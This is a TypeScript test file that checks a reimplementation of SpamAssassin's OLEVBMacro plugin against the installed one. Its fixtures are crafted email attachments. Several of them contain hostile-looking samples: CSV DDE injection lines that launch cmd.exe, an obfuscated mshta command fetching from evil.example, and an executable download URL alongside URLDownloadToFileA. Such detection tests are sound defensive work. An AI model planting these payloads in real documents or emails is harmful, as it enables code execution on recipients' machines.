/**
 * OLEVBMacro against the installed SpamAssassin (with Archive::Zip, as
 * Debian's libarchive-zip-perl gives it): self-made attachments, OLE2 files
 * with VBA markers, auto-open names, encryption and download links, Office
 * XML packages with VBA projects, embedded objects, macro content types and
 * external relationships (http and mhtml), zips with encrypted, zipped and
 * CSV members, and the ones the plugin passes over (text parts, 7bit
 * encoding, extensions in capitals, broken zips). A rule per eval, plus a
 * uri rule for the relationship links, which join the message's URIs.
 * Compared: the rules hit and the details under them, beside
 * `spamassassin -t`.
 */
import assert from 'node:assert/strict';
import { execFile } from 'node:child_process';
import { describe, test } from 'node:test';
import { ourRulesHit, reportDetail, sideBySide } from '../helpers/sa-check.js';
import { zip } from '../helpers/zip-writer.js';

const PRE = 'loadplugin Mail::SpamAssassin::Plugin::OLEVBMacro';
const EVALS = [
  'check_olemacro', 'check_oleobject', 'check_olertfobject', 'check_olemacro_csv', 'check_olemacro_malice', 'check_olemacro_renamed',
  'check_olemacro_encrypted', 'check_olemacro_zip_password', 'check_olemacro_download_exe', 'check_olemacro_redirect_uri', 'check_olemacro_mhtml_uri',
];
const ruleOf = (fn: string) => `SW_${fn.replace(/^check_/, '').toUpperCase()}`;
const BASE_CF = [
  'use_bayes 0', 'report_safe 0',
  ...EVALS.flatMap((fn) => [`body ${ruleOf(fn)} eval:${fn}()`, `score ${ruleOf(fn)} 0.01`]),
  'uri SW_OLE_LINK /relationship-link\\.example/', 'score SW_OLE_LINK 0.01',
];

const OLE = '\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1' + '\x00'.repeat(600);
const utf16 = (s: string) => [...s].join('\x00');
const CONTENT_TYPES = '<?xml version="1.0"?><Types><Default Extension="xml" ContentType="application/xml"/></Types>';

function relsWith(target: string): string {
  return `<?xml version="1.0"?><Relationships><Relationship Id="rId1" Type="http://schemas.example/oleObject" Target="${target}" TargetMode="External"/></Relationships>`;
}

function attachment(id: string, name: string, data: Buffer | string, opts: { type?: string; encoding?: string } = {}): Buffer {
  const bytes = Buffer.isBuffer(data) ? data : Buffer.from(data, 'latin1');
  const encoding = opts.encoding ?? 'base64';
  const body = encoding === 'base64' ? (bytes.toString('base64').match(/.{1,76}/g) ?? []).join('\n') : bytes.toString('latin1');
  return Buffer.from([
    'From: Sender <sender@ole.example>', 'To: bob@example.net', 'Subject: the document', 'Date: Mon, 2 Mar 2026 10:00:00 +0000',
    `Message-ID: <${id}@ole.example>`, 'MIME-Version: 1.0', 'Content-Type: multipart/mixed; boundary="BOUNDARY"', '',
    '--BOUNDARY', 'Content-Type: text/plain', '', 'Please see the attached document.', '--BOUNDARY',
    `Content-Type: ${opts.type ?? 'application/octet-stream'}; name="${name}"`, `Content-Disposition: attachment; filename="${name}"`,
    `Content-Transfer-Encoding: ${encoding}`, '', body, '--BOUNDARY--', '',
  ].join('\n'), 'latin1');
}

const CASES: Record<string, { raw: Buffer; cf?: string[] }> = {
  'a macro extension': { raw: attachment('o1', 'report.docm', 'not really a document') },
  'an old Excel file with VBA and Workbook_Open': { raw: attachment('o2', 'sheet.xls', `${OLE}\x00Attribut\x00e VB_Name = "Module1"\nSub Workbook_Open()\n`) },
  'a docx with a VBA project, AutoOpen and an external link': {
    raw: attachment('o3', 'letter.docx', zip([
      { name: '[Content_Types].xml', data: CONTENT_TYPES, deflate: true },
      { name: 'word/vbaProject.bin', data: `${OLE}Sub AutoOpen()`, deflate: true },
      { name: 'word/_rels/document.xml.rels', data: relsWith('http://www.relationship-link.example/payload.html'), deflate: true },
    ])),
  },
  'an mhtml relationship': {
    raw: attachment('o4', 'invite.docx', zip([
      { name: '[Content_Types].xml', data: CONTENT_TYPES },
      { name: 'word/_rels/document.xml.rels', data: relsWith('mhtml:http://relationship-link.example/x.html!x-usc:http://relationship-link.example/x.html') },
    ])),
  },
  'macro content type in [Content_Types].xml': {
    raw: attachment('o5', 'book.xlsx', zip([
      { name: '[Content_Types].xml', data: '<Types><Override PartName="/xl/workbook.xml" ContentType="application/vnd.ms-excel.sheet.macroEnabled.main+xml"/></Types>' },
    ])),
  },
  'embedded objects': {
    raw: attachment('o6', 'book.xlsx', zip([
      { name: '[Content_Types].xml', data: CONTENT_TYPES },
      { name: 'xl/embeddings/oleObject1.bin', data: OLE },
      { name: 'word/attached.rtf', data: '{\\rtf1 text}' },
    ])),
  },
  'a zip with an encrypted macro document': { raw: attachment('o7', 'files.zip', zip([{ name: 'invoice.xlsm', data: 'secret', encrypted: true }])) },
  'a zip with a CSV exploit': { raw: attachment('o8', 'export.zip', zip([{ name: 'data.csv', data: "a,b\n=MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c calc'!''\n", deflate: true }])) },
  'a CSV exploit attached as is': { raw: attachment('o9', 'data.csv', "=MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe'!''\n") },
  'a zip in a zip': { raw: attachment('o10', 'outer.zip', zip([{ name: 'inner.zip', data: zip([{ name: 'a.docm', data: 'x' }]) }])) },
  'an encrypted OLE package': { raw: attachment('o11', 'locked.xlsx', `${OLE}${utf16('EncryptedPackage')}`) },
  'an executable download link': { raw: attachment('o12', 'order.doc', `${OLE}\x00http://download.evil-site.example/payload/file.exe\x00URLDownloadToFileA`) },
  'the other download marker': { raw: attachment('o13', 'order.doc', `${OLE}cmd /c ms^h^ta ht^tps:/^/evil.example/x`) },
  'a renamed document, extended scan': { raw: attachment('o14', 'photo.jpg', `${OLE}\x00Attribut\x00e`, { type: 'image/jpeg' }), cf: ['olemacro_extended_scan 1'] },
  'a renamed document, no extended scan': { raw: attachment('o15', 'photo.jpg', `${OLE}\x00Attribut\x00e`, { type: 'image/jpeg' }) },
  'an extension in capitals': { raw: attachment('o16', 'REPORT.DOCM', 'x') },
  'a text part': { raw: attachment('o17', 'notes.docm', 'x', { type: 'text/plain' }) },
  'a 7bit part': { raw: attachment('o18', 'notes.docm', 'x', { encoding: '7bit' }) },
  'a broken zip': { raw: attachment('o19', 'broken.zip', 'PK\x03\x04 this is no zip at all') },
};

interface Outcome {
  tests: string;
  details: Record<string, string>;
}

/** Our rules hit, and the details under each that has any. */
function outcome(output: string): Outcome {
  const tests = ourRulesHit(output);
  const details: Record<string, string> = {};
  for (const rule of tests.split(',').filter((r) => r !== '')) {
    const detail = reportDetail(output, rule);
    if (detail !== '') details[rule] = detail;
  }
  return { tests, details };
}

const EXPECTED: Record<string, string> = {
  'a docx with a VBA project, AutoOpen and an external link': 'SW_OLEMACRO,SW_OLEMACRO_MALICE,SW_OLEMACRO_REDIRECT_URI,SW_OLE_LINK',
  'a zip with an encrypted macro document': 'SW_OLEMACRO,SW_OLEMACRO_ZIP_PASSWORD',
  'an executable download link': 'SW_OLEMACRO_DOWNLOAD_EXE',
  'an extension in capitals': '',
};

describe('OLEVBMacro as the installed SpamAssassin (with Archive::Zip) reads attachments', () => {
  const outputs = sideBySide([PRE], Object.values(CASES).map(({ raw, cf = [] }) => ({ raw, cf: [...BASE_CF, ...cf] })));

  test('the peer has Archive::Zip', async () => {
    const probe = await new Promise<string>((resolve) => execFile('perl', ['-MArchive::Zip', '-e', 'print "ok"'], (_e, out) => resolve(String(out))));
    assert.equal(probe, 'ok', 'SpamAssassin reads no zips without it: apt-get install -y libarchive-zip-perl');
  });

  for (const [name, { raw, cf = [] }] of Object.entries(CASES)) {
    test(name, async () => {
      const both = await outputs({ raw, cf: [...BASE_CF, ...cf] });
      const [ours, theirs] = [outcome(both.ours), outcome(both.theirs)];
      assert.deepEqual(ours, theirs);
      if (EXPECTED[name] !== undefined) assert.equal(theirs.tests, EXPECTED[name]);
    });
  }
});
